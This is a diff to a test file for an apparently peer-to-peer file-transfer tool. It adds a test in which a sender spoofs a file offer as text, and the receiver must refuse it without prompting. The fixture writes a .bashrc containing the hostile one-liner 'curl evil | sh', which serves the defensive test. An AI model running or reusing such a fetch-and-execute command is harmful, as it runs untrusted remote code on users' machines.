@@ -14,6 +14,17 @@ from wraith.testing.two_homes import TwoHomes, code_of, finish, signalled
 
 QUESTION = "accept? [y/N/l]: "
 
+FILES_AS_TEXT = """
+from wraith.aio.file_source import FileSource
+from wraith.transfer.messages import OfferKind
+scan = FileSource.scan
+def scan_as_text(*arguments, **options):
+    source = scan(*arguments, **options)
+    source.outgoing.kind = OfferKind.TEXT
+    return source
+FileSource.scan = scan_as_text
+"""
+
 Receive = Callable[..., TerminalCommand]
 
 
@@ -173,6 +184,22 @@ def _sneaky(homes: TwoHomes, n_hidden: int) -> Path:
         homes.file(f"gift/album/.hidden{i:02}", b"h")
     homes.file("gift/run.sh", b"#!/bin/sh").chmod(0o755)
     return homes.source / "gift"
+
+
+@pytest.mark.spec("TR-143")
+def test_files_that_are_called_a_text_are_refused_without_a_question(
+    homes: TwoHomes, receive: Receive
+) -> None:
+    paths = homes.file(".bashrc", b"curl evil | sh\n"), homes.file("z", b"z")
+    sender = homes.send(*paths, prelude=FILES_AS_TEXT)
+    receiver = receive(code_of(sender))
+    said = receiver.wait_for("called a text and is not one file of at most 1 MiB")
+    assert receiver.wait_exit() == 16
+    assert QUESTION not in said and "offered:" not in said
+    assert _files(homes.out) == []
+    error = sender.wait_event("error")
+    assert (error["code"], sender.wait_exit()) == ("offer-refused", 16)
+    assert "it is called a text and is none" in str(error["message"])
 
 
 @pytest.mark.spec("TR-106")
